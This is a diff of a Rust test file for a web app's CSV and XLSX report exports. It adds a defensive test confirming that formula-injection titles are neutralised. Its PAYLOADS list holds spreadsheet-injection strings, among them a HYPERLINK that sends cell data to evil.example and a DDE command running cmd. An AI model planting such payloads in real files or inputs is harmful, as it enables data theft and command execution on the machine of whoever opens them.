@@ -1,36 +1,88 @@
-//! Report exports read back (CSV with BOM; XLSX unzipped, its shared strings and cells
-//! checked) and the population form's validation (all rows or nothing).
+//! Report exports read back by independent readers: the CSV with the `csv` crate (BOM,
+//! headers, literal cells, formula text defused), the XLSX with `zip` (a valid archive whose
+//! CRCs match) and `calamine` (sheet names, literal cells, numbers and dates as such); and the
+//! population form's validation (all rows or nothing).
+
+use std::io::{Cursor, Read};
+
+use calamine::{Data, Reader, Xlsx};
 
 use crate::both;
-use crate::helpers::{Backend, TestApp, hanoi_day};
+use crate::helpers::{Backend, TestApp, Visitor, hanoi_day};
 use crate::reports::{known_dataset, period};
+use loa::store::{PostRecord, VariantRow};
 
-/// The stored entries of a zip archive, read by their local headers.
-fn unzip(bytes: &[u8]) -> Vec<(String, String)> {
-    let mut out = Vec::new();
-    let mut at = 0;
-    let u16_at = |i: usize| u16::from_le_bytes([bytes[i], bytes[i + 1]]) as usize;
-    let u32_at = |i: usize| {
-        u32::from_le_bytes([bytes[i], bytes[i + 1], bytes[i + 2], bytes[i + 3]]) as usize
-    };
-    while at + 30 <= bytes.len() && u32_at(at) == 0x0403_4b50 {
-        assert_eq!(u16_at(at + 8), 0, "stored entries");
-        let size = u32_at(at + 18);
-        let (name_len, extra) = (u16_at(at + 26), u16_at(at + 28));
-        let name = String::from_utf8(bytes[at + 30..at + 30 + name_len].to_vec()).unwrap();
-        let start = at + 30 + name_len + extra;
-        out.push((
-            name,
-            String::from_utf8(bytes[start..start + size].to_vec()).unwrap(),
-        ));
-        at = start + size;
+/// The titles security review F2 published: each would run as a formula in Excel.
+pub const PAYLOADS: [&str; 4] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd",
+    "@SUM(A1)",
+];
+
+/// A workbook opened the way a spreadsheet would: the zip's central directory read and every
+/// entry's CRC checked by `zip`, then the sheets by `calamine`.
+pub fn open_workbook(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
+    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).expect("a valid zip");
+    for i in 0..archive.len() {
+        let mut entry = archive.by_index(i).unwrap();
+        let name = format!("{:?}", entry.name());
+        let mut sink = Vec::new();
+        // Reading to the end makes `zip` compare the entry's CRC-32 with the directory's.
+        entry
+            .read_to_end(&mut sink)
+            .unwrap_or_else(|e| panic!("{name}: {e}"));
     }
+    calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("calamine reads it")
+}
+
+/// One part of the archive as text (styles, sheet XML), for what calamine does not expose.
+pub fn part(bytes: &[u8], name: &str) -> String {
+    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
+    let mut text = String::new();
+    archive
+        .by_name(name)
+        .unwrap_or_else(|_| panic!("{name} missing"))
+        .read_to_string(&mut text)
+        .unwrap();
+    text
+}
+
+/// A CSV export's rows as the `csv` crate reads them, after checking and removing the BOM.
+async fn csv_rows(who: &Visitor, query: &str) -> Vec<Vec<String>> {
+    let resp = who
+        .http
+        .get(format!("{}/reports/export.csv?{query}", who.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200, "{query}");
+    let bytes = resp.bytes().await.unwrap();
     assert_eq!(
-        u32_at(at),
-        0x0201_4b50,
-        "central directory follows the entries"
+        &bytes[..3],
+        &[0xEF, 0xBB, 0xBF],
+        "UTF-8 byte-order mark for Excel"
     );
-    out
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(&bytes[3..]);
+    reader
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect()
+}
+
+fn day_serial(day: &str) -> f64 {
+    let d = time::Date::parse(
+        day,
+        time::macros::format_description!("[year]-[month]-[day]"),
+    )
+    .unwrap();
+    (d - time::macros::date!(1899 - 12 - 30)).whole_days() as f64
+}
+
+fn text(s: &str) -> Data {
+    Data::String(s.to_string())
 }
 
 async fn csv_and_xlsx_exports(backend: Backend) {
@@ -43,34 +95,38 @@ async fn csv_and_xlsx_exports(backend: Backend) {
         .send()
         .await
         .unwrap();
-    assert_eq!(resp.status(), 200);
     assert!(
         resp.headers()["content-disposition"]
             .to_str()
             .unwrap()
             .contains("loa-don_vi.csv")
     );
-    let bytes = resp.bytes().await.unwrap();
+    let rows = csv_rows(&manager, &period()).await;
     assert_eq!(
-        &bytes[..3],
-        &[0xEF, 0xBB, 0xBF],
-        "UTF-8 byte-order mark for Excel"
+        rows[0][..7],
+        [
+            "Mã",
+            "Đơn vị",
+            "Từ ngày",
+            "Đến ngày",
+            "Bài của TP cho đơn vị",
+            "Bài đơn vị tự đăng",
+            "Lượt xem"
+        ]
     );
-    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
-    let mut lines = text.lines();
-    assert!(lines.next().unwrap().starts_with(
-        "Mã,Đơn vị,Từ ngày,Đến ngày,Bài của TP cho đơn vị,Bài đơn vị tự đăng,Lượt xem"
-    ));
-    let line = text.lines().find(|l| l.starts_with("001,")).unwrap();
-    let cells: Vec<&str> = line.split(',').collect();
+    let ba_dinh = rows.iter().find(|r| r[0] == "001").unwrap();
     assert_eq!(
-        (cells[1], cells[2], cells[6], cells[11], cells[14]),
+        (
+            ba_dinh[1].as_str(),
+            ba_dinh[2].as_str(),
+            ba_dinh[6].as_str(),
+            ba_dinh[11].as_str(),
+            ba_dinh[14].as_str()
+        ),
         ("Quận Ba Đình", hanoi_day(-1).as_str(), "250", "3", "15")
     );
-    let weeks = manager
-        .get(&format!("/reports/export.csv?{}&table=tuan", period()))
-        .await;
-    assert!(weeks.body.contains("Tuần (thứ Hai)"));
+    let weeks = csv_rows(&manager, &format!("{}&table=tuan", period())).await;
+    assert_eq!(weeks[0][0], "Tuần (thứ Hai)");
     assert_eq!(
         manager.get("/reports/export.csv?table=nope").await.status,
         404
@@ -83,42 +139,164 @@ async fn csv_and_xlsx_exports(backend: Backend) {
         .await
         .unwrap();
     assert_eq!(resp.status(), 200);
-    let files = unzip(&resp.bytes().await.unwrap());
-    let file = |name: &str| {
-        files
-            .iter()
-            .find(|f| f.0 == name)
-            .map(|f| f.1.clone())
-            .unwrap_or_else(|| panic!("{name} missing"))
-    };
-    let strings = file("xl/sharedStrings.xml");
-    for h in [
-        "Bài của TP cho đơn vị",
-        "Tương tác / 1.000 dân",
-        "Quận Ba Đình",
-        "Kênh chung của Thành phố",
-    ] {
-        assert!(strings.contains(h), "{h} not in sharedStrings");
-    }
-    let book = file("xl/workbook.xml");
-    assert!(book.contains("name=\"don_vi\"") && book.contains("name=\"thi_dua\""));
-    let sheet = file("xl/worksheets/sheet1.xml");
-    // Row 2 is the city's row, row 3 Ba Đình: link clicks (L) 3 as a number, the day (C) a date serial.
     assert!(
-        sheet.contains("<c r=\"L3\" s=\"3\"><v>3</v></c>"),
+        resp.headers()["content-disposition"]
+            .to_str()
+            .unwrap()
+            .contains("loa-bao-cao.xlsx")
+    );
+    let bytes = resp.bytes().await.unwrap();
+    let mut book = open_workbook(&bytes);
+    assert_eq!(
+        book.sheet_names(),
+        ["Đơn vị", "Theo tuần", "PAPI", "Bài nổi bật", "Thi đua"]
+    );
+    let units = book.worksheet_range("Đơn vị").unwrap();
+    assert_eq!(units.start(), Some((0, 0)));
+    assert_eq!(
+        (units.get((0, 0)), units.get((0, 16))),
+        (Some(&text("Mã")), Some(&text("Tương tác / 1.000 dân")))
+    );
+    // Row 2 is the city's own row, row 3 Ba Đình (rows counted from 1 as Excel does).
+    assert_eq!(units.get((1, 1)), Some(&text("Kênh chung của Thành phố")));
+    assert_eq!(units.get((2, 0)), Some(&text("001")), "codes stay text");
+    assert_eq!(units.get((2, 1)), Some(&text("Quận Ba Đình")));
+    // Numbers are numbers: views 250, link clicks 3, engagement 15.
+    assert_eq!(
+        (units.get((2, 6)), units.get((2, 11)), units.get((2, 14))),
+        (
+            Some(&Data::Float(250.0)),
+            Some(&Data::Float(3.0)),
+            Some(&Data::Float(15.0))
+        )
+    );
+    // The first day is a real date (a serial with a date format), not text.
+    match units.get((2, 2)) {
+        Some(Data::DateTime(d)) => assert_eq!(d.as_f64(), day_serial(&hanoi_day(-1))),
+        other => panic!("C3 is not a date: {other:?}"),
+    }
+    let top = book.worksheet_range("Bài nổi bật").unwrap();
+    assert_eq!(top.get((0, 0)), Some(&text("Bài đăng")));
+    assert_eq!(top.get((1, 0)), Some(&text("Công khai ngân sách")));
+    let ranking = book.worksheet_range("Thi đua").unwrap();
+    assert_eq!(
+        (ranking.get((0, 0)), ranking.get((1, 0))),
+        (Some(&text("Hạng")), Some(&Data::Float(1.0)))
+    );
+    // What calamine does not show: the header row frozen and bold, the formats Excel applies.
+    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
+    assert!(
+        sheet.contains("ySplit=\"1\"") && sheet.contains("state=\"frozen\""),
         "{sheet}"
     );
-    let serial = (time::Date::parse(
-        &hanoi_day(-1),
-        time::macros::format_description!("[year]-[month]-[day]"),
-    )
-    .unwrap()
-        - time::macros::date!(1899 - 12 - 30))
-    .whole_days();
-    assert!(sheet.contains(&format!("<c r=\"C3\" s=\"1\"><v>{serial}</v></c>")));
-    assert!(file("xl/styles.xml").contains("dd/mm/yyyy"));
+    assert!(sheet.contains("<cols>"), "column widths are set");
+    let styles = part(&bytes, "xl/styles.xml");
+    for f in ["dd/mm/yyyy", "#,##0", "<b/>"] {
+        assert!(styles.contains(f), "{f} not in styles.xml");
+    }
+
+    // In English the sheets are named in English.
+    let english = app.logged_in("ann", "manager", "").await;
+    english
+        .post("/lang", &[("lang", "en"), ("next", "/")])
+        .await;
+    let bytes = english
+        .http
+        .get(format!("{}/reports/export.xlsx?{}", app.base, period()))
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    assert_eq!(
+        open_workbook(&bytes).sheet_names(),
+        ["Units", "By week", "PAPI", "Top posts", "Emulation ranking"]
+    );
 }
 both!(csv_and_xlsx_exports);
+
+/// Security review F2: post titles that a spreadsheet would run as formulas leave in the CSV
+/// with a leading apostrophe; in the XLSX they are text cells, never formulas.
+async fn formula_titles_are_defused_in_every_export(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let officer = app.logged_in("lan", "officer", "").await;
+    let cid = officer.new_campaign("Công thức").await;
+    let author = app.state.store.campaign(cid).await.unwrap().created_by;
+    let records: Vec<PostRecord> = PAYLOADS
+        .iter()
+        .map(|title| PostRecord {
+            title: title.to_string(),
+            body: "Nội dung".into(),
+            variants: vec![VariantRow {
+                channel: "facebook".into(),
+                title: title.to_string(),
+                summary: String::new(),
+                body: "Nội dung".into(),
+                edited: false,
+            }],
+            ..PostRecord::default()
+        })
+        .collect();
+    let ids = app
+        .state
+        .store
+        .create_posts(cid, author, "draft", &records)
+        .await
+        .unwrap();
+    for id in ids {
+        app.state
+            .store
+            .backfill_published(id, loa::clock::now_ms(), author, &[])
+            .await
+            .unwrap();
+    }
+    let manager = app.logged_in("mai", "manager", "").await;
+    let rows = csv_rows(&manager, &format!("{}&table=bai_noi_bat", period())).await;
+    let titles: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
+    for p in PAYLOADS {
+        assert!(
+            titles.contains(&format!("'{p}").as_str()),
+            "{p}: {titles:?}"
+        );
+    }
+    // Every text cell is safe, numbers included as they were (the report rows too).
+    for table in ["don_vi", "tuan", "papi", "bai_noi_bat", "thi_dua"] {
+        for row in csv_rows(&manager, &format!("{}&table={table}", period())).await {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                    "{table}: {cell}"
+                );
+            }
+        }
+    }
+
+    let bytes = manager
+        .http
+        .get(format!("{}/reports/export.xlsx?{}", app.base, period()))
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    let mut book = open_workbook(&bytes);
+    let top = book.worksheet_range("Bài nổi bật").unwrap();
+    let cells: Vec<Data> = (1..top.height())
+        .filter_map(|r| top.get((r, 0)).cloned())
+        .collect();
+    for p in PAYLOADS {
+        assert!(cells.contains(&text(p)), "{p} is a text cell: {cells:?}");
+    }
+    let formulas = book.worksheet_formula("Bài nổi bật").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no formulas"
+    );
+}
+both!(formula_titles_are_defused_in_every_export);
 
 async fn population_input_is_validated_and_all_or_nothing(backend: Backend) {
     let app = TestApp::spawn(backend).await;
